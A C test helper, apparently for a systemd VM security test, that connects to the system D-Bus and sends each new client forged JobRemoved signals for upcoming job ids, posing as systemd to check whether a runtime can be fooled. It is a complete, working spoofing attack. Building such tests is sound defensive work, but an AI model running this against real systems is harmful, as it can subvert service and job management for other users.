/* jobforge RESULT AHEAD: for the systemd VM's attack test (tests/vm/
 * test_systemd.py), run as an ordinary user. A bus client that is not
 * systemd: after Subscribe it prints "subscribed", learns systemd's latest
 * job id from its JobNew/JobRemoved signals (the test makes a job; the
 * first one seen prints "ready"), and to every connection
 * that appears on the bus sends JobRemoved(id, .../job/id, "x", RESULT) for
 * the next AHEAD ids, as if systemd had ended the jobs that connection is
 * about to wait for. A runtime that believes it is fooled. */
#include <dbus/dbus.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define SD "org.freedesktop.systemd1"
#define MGR SD ".Manager"

static void forge(DBusConnection *c, const char *to, unsigned from, unsigned n, const char *result)
{
	for (unsigned id = from; id < from + n; id++) {
		char path[96];
		const char *p = path, *unit = "forged.scope";
		dbus_uint32_t i = id;
		snprintf(path, sizeof(path), "/org/freedesktop/systemd1/job/%u", id);
		DBusMessage *m =
			dbus_message_new_signal("/org/freedesktop/systemd1", MGR, "JobRemoved");
		dbus_message_set_destination(m, to);
		dbus_message_append_args(m, DBUS_TYPE_UINT32, &i, DBUS_TYPE_OBJECT_PATH, &p,
					 DBUS_TYPE_STRING, &unit, DBUS_TYPE_STRING, &result,
					 DBUS_TYPE_INVALID);
		dbus_connection_send(c, m, NULL);
		dbus_message_unref(m);
	}
	dbus_connection_flush(c);
	printf("forged %u..%u to %s\n", from, from + n - 1, to);
	fflush(stdout);
}

int main(int argc, char **argv)
{
	DBusError e;
	unsigned last = 0;

	if (argc != 3)
		return 2;
	dbus_error_init(&e);
	DBusConnection *c = dbus_bus_get(DBUS_BUS_SYSTEM, &e);
	if (!c)
		return 1;
	dbus_bus_add_match(
		c, "type='signal',sender='org.freedesktop.DBus',member='NameOwnerChanged'", NULL);
	dbus_bus_add_match(c, "type='signal',sender='" SD "',interface='" MGR "'", NULL);
	DBusMessage *m =
		dbus_message_new_method_call(SD, "/org/freedesktop/systemd1", MGR, "Subscribe");
	DBusMessage *r = dbus_connection_send_with_reply_and_block(c, m, 5000, NULL);
	dbus_message_unref(m);
	if (r)
		dbus_message_unref(r);
	if (!r)
		return 1;
	printf("subscribed\n");
	fflush(stdout);
	for (;;) {
		if (!dbus_connection_read_write(c, -1))
			return 1;
		while ((m = dbus_connection_pop_message(c))) {
			const char *name, *old, *now;
			dbus_uint32_t id;
			if (dbus_message_is_signal(m, "org.freedesktop.DBus", "NameOwnerChanged") &&
			    dbus_message_get_args(m, NULL, DBUS_TYPE_STRING, &name,
						  DBUS_TYPE_STRING, &old, DBUS_TYPE_STRING, &now,
						  DBUS_TYPE_INVALID) &&
			    name[0] == ':' && !*old && *now && last) {
				forge(c, name, last + 1, (unsigned)atoi(argv[2]), argv[1]);
			} else if ((dbus_message_is_signal(m, MGR, "JobNew") ||
				    dbus_message_is_signal(m, MGR, "JobRemoved")) &&
				   dbus_message_get_args(m, NULL, DBUS_TYPE_UINT32, &id,
							 DBUS_TYPE_INVALID) &&
				   id > last) {
				if (!last)
					printf("ready\n");
				fflush(stdout);
				last = id;
			}
			dbus_message_unref(m);
		}
	}
}
